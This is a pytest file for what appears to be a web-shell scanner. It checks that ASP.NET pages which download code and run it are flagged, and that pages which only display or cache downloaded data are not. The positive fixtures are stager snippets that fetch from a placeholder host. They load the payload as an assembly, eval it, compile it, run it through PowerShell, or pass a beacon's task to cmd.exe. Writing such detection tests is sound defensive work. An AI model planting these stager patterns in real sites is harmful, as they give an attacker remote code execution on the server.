"""Code fetched from another server and run: a stager page that downloads an assembly, a script
or source code from a fixed URL (`WebClient.DownloadData`/`DownloadString`, `HttpClient`'s
`GetByteArrayAsync`/`GetStringAsync`, or the body of a response it received: `WebResponse`'s
`GetResponseStream`, `HttpContent`'s `ReadAs...Async`) and loads, evaluates, compiles or runs it. What a download
returns is the far server's to choose, as what a socket reads is: it counts where it is run as
code or as a command, and only there. Pages that download data and show it, cache it or parse
it stay quiet."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page

URL = "http://203.0.113.7/u"
JSCRIPT = '<%@ Page Language="JScript" %>\n<script runat="server">\nfunction Page_Load(s, e) {\n{body}\n}\n</script>'

SHELLS = [
    (
        "dll.aspx",
        cs_page(
            f'var raw = new System.Net.WebClient().DownloadData("{URL}.dll");\n'
            'System.Reflection.Assembly.Load(raw).CreateInstance("Stage").Equals(Context);'
        ),
        "EXH-WS-CODE-ASSEMBLY",
        [f"the file downloaded from {URL}.dll", "loads it as an assembly"],
    ),
    (
        "httpclient.aspx",
        cs_page(
            "var c = new System.Net.Http.HttpClient();\n"
            f'byte[] b = c.GetByteArrayAsync("{URL}.bin").Result;\n'
            "AppDomain.CurrentDomain.Load(b).EntryPoint.Invoke(null, null);"
        ),
        "EXH-WS-CODE-ASSEMBLY",
        [f"the file downloaded from {URL}.bin"],
    ),
    (
        "eval.aspx",
        JSCRIPT.replace("{body}", f'eval(new System.Net.WebClient().DownloadString("{URL}.js"), "unsafe");'),
        "EXH-WS-CODE-EVAL",
        [f"the file downloaded from {URL}.js", "evaluates it as script"],
    ),
    (
        "compile.aspx",
        cs_page(
            f'string src = new System.Net.WebClient().DownloadString("{URL}.cs");\n'
            "new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource("
            "new System.CodeDom.Compiler.CompilerParameters(), src);"
        ),
        "EXH-WS-CODE-COMPILE",
        [f"the file downloaded from {URL}.cs"],
    ),
    (
        "ps.aspx",
        cs_page(
            f'string script = new System.Net.WebClient().DownloadString("{URL}.ps1");\n'
            "System.Management.Automation.PowerShell.Create().AddScript(script).Invoke();"
        ),
        "EXH-WS-CODE-PROCESS",
        [f"the file downloaded from {URL}.ps1", "runs it as a command"],
    ),
    (
        "beacon.aspx",
        cs_page(
            f'var req = (System.Net.HttpWebRequest)System.Net.WebRequest.Create("{URL}/task");\n'
            "string task = new System.IO.StreamReader(req.GetResponse().GetResponseStream()).ReadToEnd();\n"
            'System.Diagnostics.Process.Start("cmd.exe", "/c " + task);'
        ),
        "EXH-WS-CODE-PROCESS",
        ["the body of a web response", "runs it as a command"],
    ),
    (
        "stream-dll.aspx",
        cs_page(
            "var ms = new System.IO.MemoryStream();\n"
            f'System.Net.WebRequest.Create("{URL}.dll").GetResponse().GetResponseStream().CopyTo(ms);\n'
            "System.Reflection.Assembly.Load(ms.ToArray()).EntryPoint.Invoke(null, null);"
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["the body of a web response", "loads it as an assembly"],
    ),
    (
        "content.aspx",
        cs_page(
            "var c = new System.Net.Http.HttpClient();\n"
            f'var b = c.GetAsync("{URL}.bin").Result.Content.ReadAsByteArrayAsync().Result;\n'
            'System.Reflection.Assembly.Load(b).CreateInstance("Stage");'
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["the body of a web response"],
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_downloaded_code_run(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


BENIGN = [
    (
        "rates.aspx",
        cs_page(
            'string xml = new System.Net.WebClient().DownloadString("https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml");\n'
            "var doc = new System.Xml.XmlDocument(); doc.LoadXml(xml);\n"
            "lit.Text = Server.HtmlEncode(doc.DocumentElement.InnerText);"
        ),
    ),
    (
        "cache.aspx",
        cs_page(
            'byte[] logo = new System.Net.WebClient().DownloadData("https://cdn.example.org/logo.png");\n'
            'System.IO.File.WriteAllBytes(Server.MapPath("~/App_Data/logo.png"), logo);'
        ),
    ),
    (
        "feed.aspx",
        cs_page(
            "var c = new System.Net.Http.HttpClient();\n"
            'string json = c.GetStringAsync("https://api.example.org/news").Result;\n'
            'Response.ContentType = "application/json"; Response.Write(json);'
        ),
    ),
    (
        "weather.aspx",
        cs_page(
            'var req = System.Net.WebRequest.Create("https://api.example.org/weather");\n'
            "using (var r = new System.IO.StreamReader(req.GetResponse().GetResponseStream()))\n"
            "{ lit.Text = Server.HtmlEncode(r.ReadToEnd()); }"
        ),
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_downloaded_data_used_as_data_quiet(name: str, code: str) -> None:
    assert_benign(name, code)
